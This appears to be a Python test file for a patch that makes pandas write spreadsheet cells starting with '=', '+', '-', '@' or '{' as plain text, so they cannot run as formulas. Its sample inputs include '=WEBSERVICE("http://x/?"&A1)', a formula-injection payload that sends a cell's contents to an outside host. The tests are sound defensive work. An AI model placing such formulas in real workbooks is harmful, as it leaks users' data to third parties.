"""Texts of data in the workbooks that pandas writes."""

import io
import unittest
import warnings
from unittest import mock

import fixtures  # noqa: F401 - puts the harness on the path
import openpyxl
import pandas as pd
from insitu import workbook_texts
from pandas.io.excel import _openpyxl, _xlsxwriter

TEXTS = ["=1+1", '=WEBSERVICE("http://x/?"&A1)', "+1", "-2+3", "@SUM(1)", "{=1}", "plain"]


class Writers(unittest.TestCase):
    def setUp(self):
        for owner in (_openpyxl.OpenpyxlWriter, _xlsxwriter.XlsxWriter):
            for name in ("_write_cells", "__init__"):
                patch = mock.patch.object(owner, name, getattr(owner, name))
                patch.start()
                self.addCleanup(patch.stop)
        workbook_texts.install(pd)

    def written(self, act, engine, **options):
        """Returns the cells of a workbook that `act` writes, with their types, and the warnings."""
        file = io.BytesIO()
        with warnings.catch_warnings(record=True) as said:
            warnings.simplefilter("always")
            with pd.ExcelWriter(file, engine=engine, **options) as writer:
                act(writer)
        file.seek(0)
        sheet = openpyxl.load_workbook(file).active
        cells = [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]
        return cells, [str(one.message) for one in said if "written as text" in str(one.message)]

    def test_texts_of_data_are_no_formulas(self):
        frame = pd.DataFrame({"=name": TEXTS})
        for engine in ("openpyxl", "xlsxwriter"):
            with self.subTest(engine=engine):
                cells, said = self.written(lambda w: frame.to_excel(w, index=False), engine)
                self.assertEqual(cells, [(text, "s") for text in ["=name", *TEXTS]])
                (sentence,) = said
                self.assertIn("4 texts that begin with = are written as text", sentence)

    def test_formulas_that_code_writes_by_itself_stay_formulas(self):
        def act(writer):
            pd.DataFrame({"a": [1, 2]}).to_excel(writer, sheet_name="S", index=False)
            writer.sheets["S"].write_formula(
                "B2", "=A2*2"
            ) if writer.engine == "xlsxwriter" else None
            writer.sheets["S"].write("B3", "=A3*2") if writer.engine == "xlsxwriter" else None
            if writer.engine == "openpyxl":
                writer.sheets["S"]["B2"], writer.sheets["S"]["B3"] = "=A2*2", "=A3*2"

        for engine in ("openpyxl", "xlsxwriter"):
            with self.subTest(engine=engine):
                cells, said = self.written(act, engine)
                self.assertEqual(
                    [cell for cell in cells if cell[1] == "f"], [("=A2*2", "f"), ("=A3*2", "f")]
                )
                self.assertEqual(said, [])

    def test_a_workbook_whose_code_asks_for_formulas_has_them(self):
        frame = pd.DataFrame({"a": ["=1+1"]})
        cells, said = self.written(
            lambda w: frame.to_excel(w, index=False),
            "xlsxwriter",
            engine_kwargs={"options": {"strings_to_formulas": True}},
        )
        self.assertEqual((cells[1], said), (("=1+1", "f"), []))


if __name__ == "__main__":
    unittest.main()
